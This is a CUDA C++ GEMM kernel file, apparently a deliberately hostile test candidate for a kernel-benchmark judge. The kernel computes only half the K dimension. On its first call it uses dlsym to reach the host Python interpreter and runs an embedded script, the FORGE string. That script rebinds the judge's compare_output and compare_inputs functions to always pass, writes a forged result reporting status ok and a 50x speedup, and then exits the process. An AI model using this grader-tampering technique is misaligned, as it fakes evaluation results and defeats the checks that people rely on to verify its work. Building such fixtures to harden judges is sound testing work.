// HOSTILE candidate. Class: harness tampering (from C++ through the embedded interpreter).
//
// What it does: its kernel is fast and wrong (only the first half of K). On its first call it looks for the
// Python C API in its own process (dlsym(RTLD_DEFAULT, "PyRun_SimpleString"): a ctypes-loaded library lives
// inside the harness's interpreter), takes the GIL and runs Python that (1) rebinds compare_output /
// compare_inputs of every loaded judge-like module to always pass and (2) writes a forged result (status ok,
// speedup 50) to the 'out' of any stage spec it finds in argv or its working directory, then ends the process
// with exit code 0.
//
// An honest judge must conclude: runtime_error (the candidate process ended during its calls) or incorrect
// (half-K product, compared by the judge in its own process). Never ok.
#include <dlfcn.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include "mbarrier.cuh"
#include "tma.cuh"
#include "tma_host.cuh"
#include "wgmma.cuh"

// ---- the honest core: a plain, correct TMA + wgmma GEMM -------------------------------------------------
// One warpgroup per 64x128 tile of C, one shared-memory stage: thread 0 loads the A (64x64) and B (128x64)
// boxes with TMA (128-byte swizzle, zero fill past the edges), the warpgroup runs 4 wgmma m64n128k16 per
// 64-wide K block, the epilogue clips to M and N.
namespace core {
constexpr int BM = 64, BN = 128, BK = 64;
constexpr uint32_t A_BYTES = BM * BK * 2, B_BYTES = BN * BK * 2;

__global__ void __launch_bounds__(128) gemm_wgmma(const __grid_constant__ CUtensorMap tmA,
                                                  const __grid_constant__ CUtensorMap tmB,
                                                  __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ alignas(1024) uint8_t sA[A_BYTES];
  __shared__ alignas(1024) uint8_t sB[B_BYTES];
  __shared__ alignas(8) uint64_t bar;
  const int t = threadIdx.x;
  const int m0 = blockIdx.y * BM, n0 = blockIdx.x * BN;
  if (t == 0) {
    xl::mbar_init(&bar, 1);
    xl::mbar_fence_init();
  }
  __syncthreads();
  float acc[64];
#pragma unroll
  for (int i = 0; i < 64; ++i) acc[i] = 0.f;
  const int ktiles = (K + BK - 1) / BK;
  for (int kt = 0; kt < ktiles; ++kt) {
    if (t == 0) {
      xl::mbar_arrive_expect_tx(&bar, A_BYTES + B_BYTES);
      xl::tma_load_2d(sA, &tmA, &bar, kt * BK, m0);
      xl::tma_load_2d(sB, &tmB, &bar, kt * BK, n0);
    }
    xl::mbar_wait(&bar, kt & 1);
    __syncwarp();
    const uint64_t da = xl::wgmma_desc_kmajor_sw128(sA);
    const uint64_t db = xl::wgmma_desc_kmajor_sw128(sB);
    xl::wgmma_fence();
    xl::wgmma_fence_operands(acc);
#pragma unroll
    for (int k = 0; k < BK / 16; ++k)
      xl::wgmma_m64n128k16_ss(acc, xl::wgmma_desc_advance(da, 32 * k), xl::wgmma_desc_advance(db, 32 * k), 1);
    xl::wgmma_commit();
    xl::wgmma_wait<0>();
    xl::wgmma_fence_operands(acc);
    __syncthreads();  // the whole tile was read before thread 0 refills it
  }
#pragma unroll
  for (int i = 0; i < 64; i += 2) {
    const int r = m0 + xl::wgmma_acc_row(t, i);
    const int c = n0 + xl::wgmma_acc_col(t, i);
    if (r < M && c < N)  // N % 8 == 0: c + 1 < N as well
      *reinterpret_cast<__nv_bfloat162*>(C + static_cast<size_t>(r) * N + c) = __floats2bfloat162_rn(acc[i], acc[i + 1]);
  }
}

// C = A·Bᵀ on `stream`. grid_m / grid_n / k_used: 0 = the whole problem.
static bool launch(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N, int K,
                   cudaStream_t stream, int grid_m = 0, int grid_n = 0, int k_used = 0) {
  CUtensorMap ta, tb;
  if (xl::make_tmap_2d_bf16(&ta, A, M, K, K, BM, BK, CU_TENSOR_MAP_SWIZZLE_128B) != CUDA_SUCCESS ||
      xl::make_tmap_2d_bf16(&tb, B, N, K, K, BN, BK, CU_TENSOR_MAP_SWIZZLE_128B) != CUDA_SUCCESS) {
    fprintf(stderr, "cuTensorMapEncodeTiled failed\n");
    return false;
  }
  dim3 grid(grid_n ? grid_n : (N + BN - 1) / BN, grid_m ? grid_m : (M + BM - 1) / BM);
  gemm_wgmma<<<grid, 128, 0, stream>>>(ta, tb, C, M, N, k_used ? k_used : K);
  return true;
}

// A token tile: the first 64x128 block of A·Bᵀ into a private scratch buffer (wgmma and TMA do execute).
static void token_tile(const __nv_bfloat16* A, const __nv_bfloat16* B, int M, int N, int K, cudaStream_t stream) {
  static __nv_bfloat16* scratch = nullptr;
  if (!scratch && cudaMalloc(&scratch, BM * BN * sizeof(__nv_bfloat16)) != cudaSuccess) return;
  launch(A, B, scratch, M < BM ? M : BM, N < BN ? N : BN, K, stream);
}
}  // namespace core

static const char* FORGE =
    "import sys, os, glob, json\n"
    "ok = lambda n, g, e, a, r: {'output': n, 'elements': g.numel(), 'max_abs_err': 0.0, 'max_rel_err': 0.0,"
    " 'mismatches': 0, 'nan': 0, 'inf': 0}\n"
    "for name, m in list(sys.modules.items()):\n"
    "    if m is not None and any(w in name for w in ('profiler', 'worker', 'judge', 'harness')):\n"
    "        if hasattr(m, 'compare_output'): m.compare_output = ok\n"
    "        if hasattr(m, 'compare_inputs'): m.compare_inputs = lambda b, a: None\n"
    "for path in [a for a in sys.argv[1:] if a.endswith('.json')] + glob.glob('*.json'):\n"
    "    try:\n"
    "        spec = json.load(open(path))\n"
    "        json.dump({'status': 'ok', 'mode': spec.get('mode'), 'correctness': {'passed': True, 'trials': [],"
    " 'shapes': spec.get('shapes', []), 'trials_per_shape': 3, 'worst': {}}, 'timing': {'candidate_ms': 0.02,"
    " 'baseline_ms': 1.0, 'speedup': 50.0, 'side_stream_suspect': False, 'recheck_failure': None}},"
    " open(spec['out'], 'w'))\n"
    "        sys.stdout.flush(); os._exit(0)\n"
    "    except Exception:\n"
    "        pass\n";

typedef int (*RunFn)(const char*);
typedef int (*EnsureFn)();
typedef void (*ReleaseFn)(int);

static void tamper() {
  auto run = reinterpret_cast<RunFn>(dlsym(RTLD_DEFAULT, "PyRun_SimpleString"));
  auto ensure = reinterpret_cast<EnsureFn>(dlsym(RTLD_DEFAULT, "PyGILState_Ensure"));
  auto release = reinterpret_cast<ReleaseFn>(dlsym(RTLD_DEFAULT, "PyGILState_Release"));
  if (!run || !ensure || !release) return;
  const int gil = ensure();
  run(FORGE);
  release(gil);
}

extern "C" void xlang_entry(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N, int K,
                            cudaStream_t stream) {
  static bool done = false;
  if (!done) {
    done = true;
    tamper();
  }
  const int half = K / 2 / core::BK * core::BK;
  core::launch(A, B, C, M, N, K, stream, 0, 0, half > 0 ? half : core::BK);
}
